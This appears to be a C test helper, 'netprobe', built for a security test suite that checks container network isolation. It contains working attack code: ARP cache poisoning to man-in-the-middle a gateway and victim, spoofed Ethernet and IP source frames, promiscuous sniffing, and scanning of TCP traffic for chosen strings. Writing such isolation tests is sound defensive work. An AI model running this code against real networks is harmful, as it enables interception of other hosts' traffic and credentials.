/* netprobe: a tiny attacker/observer for test/security/network.test.ts, built static with gcc
 * at test time and copied into a busybox image. Raw AF_PACKET frames, like a task with
 * Docker's default NET_RAW can send.
 *
 *   netprobe mitm IFACE GW_IP VICTIM_IP SECONDS
 *       ARP-poisons both ends (claims GW_IP and VICTIM_IP at this interface's MAC, as
 *       gratuitous requests and replies, broadcast and unicast) every 100 ms while sniffing
 *       promiscuously; prints "victim-frames N": IPv4 frames from or to VICTIM_IP seen here.
 *   netprobe spoof IFACE SRC_MAC|self SRC_IP|self DST_MAC DST_IP COUNT TAG
 *       sends COUNT UDP frames (port 9999) with the given Ethernet and IP sources, payload "BERTH-TAG".
 *   netprobe sniff IFACE SECONDS
 *       counts UDP frames whose payload starts with "BERTH-", per tag; prints "TAG N" lines and "sniffed".
 *   netprobe grep IFACE SECONDS PORT NEEDLE...
 *       reads every TCP frame to or from PORT on IFACE (both directions: a host-mode task
 *       shares its instance's interface) and counts the frames containing each NEEDLE; prints
 *       "frames N", then "found NEEDLE N" per needle, then "grepped".
 */
#define _GNU_SOURCE /* memmem */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int sock_for(const char *ifname, int *ifindex, unsigned char mac[6], struct in_addr *ip) {
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (s < 0) { perror("socket"); exit(2); }
  struct ifreq ifr; memset(&ifr, 0, sizeof ifr);
  strncpy(ifr.ifr_name, ifname, IFNAMSIZ - 1);
  if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) { perror("SIOCGIFINDEX"); exit(2); }
  *ifindex = ifr.ifr_ifindex;
  if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) { perror("SIOCGIFHWADDR"); exit(2); }
  memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
  int u = socket(AF_INET, SOCK_DGRAM, 0);
  strncpy(ifr.ifr_name, ifname, IFNAMSIZ - 1);
  if (ioctl(u, SIOCGIFADDR, &ifr) == 0) *ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
  close(u);
  struct sockaddr_ll sll; memset(&sll, 0, sizeof sll);
  sll.sll_family = AF_PACKET; sll.sll_protocol = htons(ETH_P_ALL); sll.sll_ifindex = *ifindex;
  if (bind(s, (struct sockaddr *)&sll, sizeof sll) < 0) { perror("bind"); exit(2); }
  struct packet_mreq mr; memset(&mr, 0, sizeof mr);
  mr.mr_ifindex = *ifindex; mr.mr_type = PACKET_MR_PROMISC;
  setsockopt(s, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr, sizeof mr);
  return s;
}

static void parse_mac(const char *t, unsigned char mac[6]) {
  unsigned v[6];
  if (sscanf(t, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) { fprintf(stderr, "bad mac %s\n", t); exit(2); }
  for (int i = 0; i < 6; i++) mac[i] = (unsigned char)v[i];
}

static void send_frame(int s, int ifindex, const unsigned char *frame, size_t len) {
  struct sockaddr_ll to; memset(&to, 0, sizeof to);
  to.sll_family = AF_PACKET; to.sll_ifindex = ifindex; to.sll_halen = 6;
  memcpy(to.sll_addr, frame, 6);
  if (sendto(s, frame, len, 0, (struct sockaddr *)&to, sizeof to) < 0) perror("sendto");
}

/* An ARP frame: Ethernet src = eth_src, sender = (sha, spa), target = (tha, tpa). */
static void send_arp(int s, int ifindex, int op, const unsigned char eth_dst[6], const unsigned char eth_src[6],
                     const unsigned char sha[6], struct in_addr spa, const unsigned char tha[6], struct in_addr tpa) {
  unsigned char f[60]; memset(f, 0, sizeof f);
  memcpy(f, eth_dst, 6); memcpy(f + 6, eth_src, 6); f[12] = 0x08; f[13] = 0x06;
  unsigned char *a = f + 14;
  a[0] = 0; a[1] = 1; a[2] = 0x08; a[3] = 0; a[4] = 6; a[5] = 4; a[6] = 0; a[7] = (unsigned char)op;
  memcpy(a + 8, sha, 6); memcpy(a + 14, &spa, 4); memcpy(a + 18, tha, 6); memcpy(a + 24, &tpa, 4);
  send_frame(s, ifindex, f, sizeof f);
}

static unsigned short csum(const void *p, size_t n) {
  const unsigned short *w = p; unsigned long sum = 0;
  for (; n > 1; n -= 2) sum += *w++;
  if (n) sum += *(const unsigned char *)w;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (unsigned short)~sum;
}

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc < 3) { fprintf(stderr, "usage: netprobe mitm|spoof|sniff IFACE ...\n"); return 2; }
  int ifindex; unsigned char mac[6]; struct in_addr ip = { 0 };
  int s = sock_for(argv[2], &ifindex, mac, &ip);
  static const unsigned char bcast[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
  static const unsigned char zero[6] = { 0 };

  if (!strcmp(argv[1], "mitm") && argc == 6) {
    struct in_addr gw, victim; inet_aton(argv[3], &gw); inet_aton(argv[4], &victim);
    double end = now() + atof(argv[5]), next = 0;
    long seen = 0;
    unsigned char buf[2048];
    while (now() < end) {
      if (now() >= next) {
        next = now() + 0.1;
        /* "GW_IP is at my MAC" to everyone (the victim instance updates its gateway entry)... */
        send_arp(s, ifindex, 1, bcast, mac, mac, gw, zero, gw);
        send_arp(s, ifindex, 2, bcast, mac, mac, gw, bcast, gw);
        /* ...and "VICTIM_IP is at my MAC" (the gateway updates its entry for the victim). */
        send_arp(s, ifindex, 1, bcast, mac, mac, victim, zero, victim);
        send_arp(s, ifindex, 2, bcast, mac, mac, victim, bcast, victim);
      }
      struct pollfd p = { s, POLLIN, 0 };
      if (poll(&p, 1, 20) <= 0) continue;
      struct sockaddr_ll from; socklen_t fl = sizeof from;
      ssize_t n = recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl);
      if (n < 34 || from.sll_pkttype == PACKET_OUTGOING) continue;
      if (buf[12] != 0x08 || buf[13] != 0x00) continue;
      struct in_addr src, dst; memcpy(&src, buf + 26, 4); memcpy(&dst, buf + 30, 4);
      if (src.s_addr == victim.s_addr || dst.s_addr == victim.s_addr) seen++;
    }
    printf("victim-frames %ld\n", seen);
    return 0;
  }

  if (!strcmp(argv[1], "spoof") && argc == 9) {
    unsigned char smac[6], dmac[6]; struct in_addr sip, dip;
    if (!strcmp(argv[3], "self")) memcpy(smac, mac, 6); else parse_mac(argv[3], smac);
    if (!strcmp(argv[4], "self")) sip = ip; else inet_aton(argv[4], &sip);
    parse_mac(argv[5], dmac); inet_aton(argv[6], &dip);
    int count = atoi(argv[7]);
    char payload[64]; int plen = snprintf(payload, sizeof payload, "BERTH-%s", argv[8]);
    unsigned char f[128]; memset(f, 0, sizeof f);
    memcpy(f, dmac, 6); memcpy(f + 6, smac, 6); f[12] = 0x08; f[13] = 0x00;
    struct iphdr *h = (struct iphdr *)(f + 14);
    h->version = 4; h->ihl = 5; h->ttl = 64; h->protocol = 17;
    h->tot_len = htons(20 + 8 + plen); h->saddr = sip.s_addr; h->daddr = dip.s_addr;
    h->check = csum(h, 20);
    unsigned char *u = f + 34;
    u[0] = 0x27; u[1] = 0x0f; u[2] = 0x27; u[3] = 0x0f; u[4] = 0; u[5] = (unsigned char)(8 + plen);
    memcpy(u + 8, payload, plen);
    size_t len = 14 + 20 + 8 + plen; if (len < 60) len = 60;
    for (int i = 0; i < count; i++) { send_frame(s, ifindex, f, len); usleep(50000); }
    printf("sent %d %s\n", count, argv[8]);
    return 0;
  }

  if (!strcmp(argv[1], "sniff") && argc == 4) {
    double end = now() + atof(argv[3]);
    char tags[16][32]; long counts[16]; int ntags = 0;
    unsigned char buf[2048];
    printf("sniffing\n");
    while (now() < end) {
      struct pollfd p = { s, POLLIN, 0 };
      if (poll(&p, 1, 50) <= 0) continue;
      struct sockaddr_ll from; socklen_t fl = sizeof from;
      ssize_t n = recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl);
      if (n < 42 || from.sll_pkttype == PACKET_OUTGOING || buf[12] != 0x08 || buf[13] != 0x00 || buf[23] != 17) continue;
      int ihl = (buf[14] & 0x0f) * 4;
      const char *pl = (const char *)buf + 14 + ihl + 8;
      if ((const unsigned char *)pl + 6 > buf + n || strncmp(pl, "BERTH-", 6)) continue;
      char tag[32] = { 0 };
      for (int i = 0; i < 31 && (const unsigned char *)pl + 6 + i < buf + n && pl[6 + i] > ' '; i++) tag[i] = pl[6 + i];
      int k;
      for (k = 0; k < ntags && strcmp(tags[k], tag); k++) {}
      if (k == ntags && ntags < 16) { strcpy(tags[ntags], tag); counts[ntags++] = 0; }
      if (k < 16) counts[k]++;
    }
    for (int k = 0; k < ntags; k++) printf("%s %ld\n", tags[k], counts[k]);
    printf("sniffed\n");
    return 0;
  }
  if (!strcmp(argv[1], "grep") && argc >= 6) {
    double end = now() + atof(argv[3]);
    int port = atoi(argv[4]);
    int nneedles = argc - 5;
    long found[64] = { 0 }, frames = 0;
    if (nneedles > 64) nneedles = 64;
    unsigned char buf[65536];
    printf("grepping\n");
    fflush(stdout);
    while (now() < end) {
      struct pollfd p = { s, POLLIN, 0 };
      if (poll(&p, 1, 50) <= 0) continue;
      ssize_t n = recv(s, buf, sizeof buf, 0);
      if (n < 54 || buf[12] != 0x08 || buf[13] != 0x00 || buf[23] != 6) continue;
      int ihl = (buf[14] & 0x0f) * 4;
      const unsigned char *tcp = buf + 14 + ihl;
      if (tcp + 4 > buf + n) continue;
      int sport = (tcp[0] << 8) | tcp[1], dport = (tcp[2] << 8) | tcp[3];
      if (sport != port && dport != port) continue;
      frames++;
      for (int k = 0; k < nneedles; k++) if (memmem(buf, n, argv[5 + k], strlen(argv[5 + k]))) found[k]++;
    }
    printf("frames %ld\n", frames);
    for (int k = 0; k < nneedles; k++) printf("found %s %ld\n", argv[5 + k], found[k]);
    printf("grepped\n");
    return 0;
  }
  fprintf(stderr, "bad arguments\n");
  return 2;
}
